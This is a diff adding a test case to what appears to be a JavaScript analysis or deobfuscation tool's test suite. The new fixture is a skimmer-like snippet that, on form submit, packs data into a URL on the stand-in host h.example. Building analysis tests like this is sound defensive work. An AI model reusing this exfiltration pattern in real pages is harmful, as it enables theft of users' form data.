@@ -32,6 +32,13 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: ['var a=1;\nvar b=2;\nfetch('],
   },
   {
+    name: 'a variable declared after an early return is unknown, not undefined',
+    source: `var S={};function go(){var ok=false,k;for(k in S)ok=true;if(!ok)return;var v=pack();var l=document.createElement('link');l.href='https://h.example/p?v='+encodeURIComponent(v)}
+      document.addEventListener('submit',go)`,
+    has: ["'https://h.example/p?v='+encodeURIComponent(v)"],
+    not: ['undefined'],
+  },
+  {
     name: 'constant branches keep only the live arm',
     source: `function f(){ return 'k' } if (f() === 'k') { send(1) } else { decoy() }`,
     has: ['send(1)'],
